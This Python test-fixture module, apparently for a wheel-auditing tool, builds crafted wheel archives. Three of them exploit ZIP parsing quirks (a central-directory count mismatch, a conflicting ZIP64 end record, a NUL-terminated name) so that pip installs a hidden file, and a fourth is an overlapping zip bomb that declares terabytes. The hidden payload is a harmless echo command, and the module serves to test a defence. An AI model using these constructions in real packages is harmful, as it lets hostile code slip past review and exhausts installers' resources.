"""The three wheels that once passed `wheels` and `audit` while pip installed an attacker's file.

Each is a copy of one honest wheel whose entries are byte-identical; only the records that say
where the entries are, and what they are called, differ. `installed` runs the real pip on one.
"""

from __future__ import annotations

import struct
import subprocess
import sys
import zlib
from pathlib import Path

from wheelkit import (
    RawMember,
    central_record,
    end_record,
    local_record,
    raw_layout,
    raw_member,
    raw_zip,
    record_hash,
    wheel_files,
    zip64_end,
)

WHEEL = "demo-1.0-py3-none-any.whl"
BENIGN = b"def run():\n    return 'benign'\n"
EVIL = b"import os\nos.system('echo owned')\n"
TARGET = "demo/__init__.py"


def honest_members(hidden: bytes = b"") -> list[RawMember]:
    """The honest wheel's entries; `demo/blob.bin` (stored) carries `hidden` as its content."""
    files = {TARGET: BENIGN, "demo/blob.bin": b"blob:" + hidden}
    members = []
    for name, data in wheel_files("demo", "1.0", files).items():
        members.append(raw_member(name, data, method=0 if name.endswith(".bin") else 8))
    return members


def _hidden_evil() -> tuple[RawMember, bytes]:
    evil = raw_member(TARGET, EVIL)
    return evil, local_record(evil)


def base_wheel(directory: Path) -> Path:
    """The honest wheel (with the same hidden bytes the crafted ones carry, so every entry of
    a crafted wheel is identical to its base)."""
    _, hidden = _hidden_evil()
    return _write(directory, raw_zip(honest_members(hidden)))


def one_record_past_the_count(directory: Path) -> Path:
    """1a: the directory holds one more record than its end record counts; the extra one names
    `demo/__init__.py` and points at a local record hidden inside `demo/blob.bin`."""
    evil, hidden = _hidden_evil()
    members = honest_members(hidden)
    body, layout = raw_layout(members)
    blob = next(i for i, m in enumerate(members) if m.name.endswith(b".bin"))
    hidden_at = layout.offsets[blob] + 30 + len(members[blob].name) + len(b"blob:")
    extra = central_record(evil, hidden_at)
    directory_bytes = layout.directory + extra
    archive = body + extra
    archive += end_record(len(members), len(directory_bytes), layout.directory_offset)
    return _write(directory, archive)


def zip64_disagrees(directory: Path) -> Path:
    """1b: the classic end record describes the honest directory; a ZIP64 end record (which
    zipfile prefers whenever its locator is present) describes a second directory whose
    `demo/__init__.py` record points at the hidden local record."""
    evil, hidden = _hidden_evil()
    members = honest_members(hidden)
    body, layout = raw_layout(members)
    blob = next(i for i, m in enumerate(members) if m.name.endswith(b".bin"))
    hidden_at = layout.offsets[blob] + 30 + len(members[blob].name) + len(b"blob:")
    second = b"".join(
        central_record(evil, hidden_at) if m.name == TARGET.encode() else central_record(m, o)
        for m, o in zip(members, layout.offsets, strict=True)
    )
    second_at = len(body)
    archive = body + second
    archive += zip64_end(len(members), len(second), second_at, len(archive))
    archive += end_record(len(members), len(layout.directory), layout.directory_offset)
    return _write(directory, archive)


def name_with_nul(directory: Path) -> Path:
    """1c: a last entry named `demo/__init__.py\\0`, which zipfile reads as `demo/__init__.py`."""
    _, hidden = _hidden_evil()
    members = honest_members(hidden)
    members.append(raw_member(TARGET.encode() + b"\0", EVIL))
    return _write(directory, raw_zip(members))


def _write(directory: Path, data: bytes) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / WHEEL
    path.write_bytes(data)
    return path


def installed(wheel: Path, target: Path) -> bytes:
    """What `pip install --no-deps --no-compile --target` really puts at `demo/__init__.py`."""
    subprocess.run(
        [
            sys.executable, "-m", "pip", "install", "--quiet", "--no-deps", "--no-compile",
            "--no-index", "--disable-pip-version-check", "--target", str(target), str(wheel),
        ],
        check=True,
        capture_output=True,
    )  # fmt: skip
    return (target / TARGET).read_bytes()


KERNEL_SIZE = 2 << 30
"""Bytes the shared kernel of the quine bomb inflates to (zeros)."""


def quine_bomb(directory: Path, entries: int = 2_000, *, hashed_record: bool = False) -> Path:
    """An overlapping ("quine") zip bomb after the honest wheel's entries: entry i's deflate
    data quotes, in stored blocks, the local headers of every later entry and ends in one
    shared kernel of 2 GiB of zeros, so every entry declares over 2 GiB while all of them
    share the same compressed bytes (Fifield's construction, CRC-32s left at 0). Inflating
    every entry would produce 4 TB. `hashed_record` lists each entry in RECORD with a hash (as a
    build tool would), which asks `wheels` to hash the content of every added entry."""
    names = [f"demo/bomb/{i:05}.bin".encode() for i in range(entries)]
    header_size = [30 + len(name) for name in names]
    compressed = len(kernel := _zeros_stream(KERNEL_SIZE))
    inflated = KERNEL_SIZE
    sizes: list[tuple[int, int]] = []  # entry i's data: a quote of every later header, the kernel
    for i in range(entries - 1, -1, -1):
        sizes.append((compressed, inflated))
        compressed += 5 + header_size[i]
        inflated += header_size[i]
    sizes.reverse()
    headers = [
        struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0x800, 8, 0, 0x21, 0, *sizes[i], len(n), 0) + n
        for i, n in enumerate(names)
    ]
    hash_field = record_hash(b"x") if hashed_record else ""
    rows = "".join(f"{name.decode()},{hash_field},\n" for name in names)
    members = honest_members()
    for index, member in enumerate(members):
        if member.name.endswith(b"/RECORD"):
            members[index] = raw_member(member.name, _content(member) + rows.encode())
    body, layout = raw_layout(members)
    chain = bytearray()
    central = bytearray(layout.directory)
    start = layout.directory_offset  # the chain takes the honest directory's place
    for i, name in enumerate(names):
        central += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 0x314, 20, 0x800, 8, 0, 0x21, 0, *sizes[i],
            len(name), 0, 0, 0, 0, 0o100644 << 16, start + len(chain),
        )  # fmt: skip
        central += name
        chain += headers[i]
        if i + 1 < entries:
            following = header_size[i + 1]
            chain += b"\x00" + struct.pack("<HH", following, following ^ 0xFFFF)
    chain += kernel
    archive = body[: layout.directory_offset] + bytes(chain)
    total = len(members) + entries
    archive += bytes(central) + end_record(total, len(central), len(archive))
    return _write(directory, archive)


def _content(member: RawMember) -> bytes:
    return zlib.decompress(member.stored, -15) if member.method == 8 else member.stored


def _zeros_stream(size: int) -> bytes:
    """A raw deflate stream of `size` zero bytes (whole MiBs), made without holding them."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * (size >> 20) + compressor.flush(zlib.Z_FINISH)
